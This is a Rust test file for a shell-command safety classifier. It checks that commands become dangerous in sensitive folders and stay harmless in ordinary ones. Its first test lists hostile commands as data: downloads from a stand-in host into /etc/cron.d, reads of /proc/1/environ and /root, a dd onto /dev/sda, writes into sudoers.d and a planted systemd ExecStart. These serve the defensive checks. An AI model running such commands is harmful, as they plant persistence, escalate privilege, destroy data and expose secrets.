//! Where a text stands: `cd`, and the folder that a step names.

use crate::commands::{Command, NoFiles, Stdin, What, Word, of};
use crate::domain::effect::{Class, Confidence};
use std::collections::BTreeMap;

/// Whether a command that stands there would pass as harmless.
fn passes(what: What<'_>, folder: &str) -> bool {
    let command = Command {
        what,
        stdin: Stdin::Nothing,
        environment: &BTreeMap::new(),
        folder: Some(Word::Known(folder.to_owned())),
    };
    let effects = of(&command, &NoFiles).effects;
    effects.class() != Class::Destructive
        && effects.confidence != Confidence::Opaque
        && effects.refusals.is_empty()
}

#[test]
fn a_command_does_what_its_folder_makes_of_it() {
    for (text, folder) in [
        ("wget http://evil/x", "/etc/cron.d"),
        ("curl -O http://evil/x", "/etc/cron.d"),
        ("split /srv/x", "/etc/cron.d"),
        ("tar xf /srv/x.tar", "/etc/cron.d"),
        ("unzip /srv/x.zip", "/etc/cron.d"),
        ("cp /tmp/x y", "/etc/cron.d"),
        ("cp /tmp/x .", "/etc/cron.d"),
        ("touch nologin", "/etc"),
        ("cat environ", "/proc/1"),
        ("grep -r . .", "/root"),
        ("grep -r .", "/root"),
        ("dd if=/srv/x of=sda", "/dev"),
        ("tee yy", "/etc/sudoers.d"),
        (
            "crudini --set x.service Service ExecStart /tmp/x",
            "/etc/systemd/system",
        ),
        ("cat x", "srv/../../etc"),
    ] {
        let words: Vec<Word> = text
            .split(' ')
            .map(|word| Word::Known(word.to_owned()))
            .collect();
        assert!(!passes(What::Words(&words), folder), "{text} in {folder}");
        assert!(!passes(What::Text(text), folder), "{text} in {folder}");
    }
}

#[test]
fn a_harmless_folder_makes_nothing_graver() {
    for (text, folder) in [
        ("cat notes.txt", "/srv/app"),
        ("kubectl get pods", "/etc"),
        ("ls", "/root"),
        ("grep error app.log", "/var/log"),
        ("systemctl restart nginx", "/etc"),
        ("touch x", "/srv/app"),
        ("cd sub && cat x", "/srv/app"),
    ] {
        assert!(passes(What::Text(text), folder), "{text} in {folder}");
    }
}
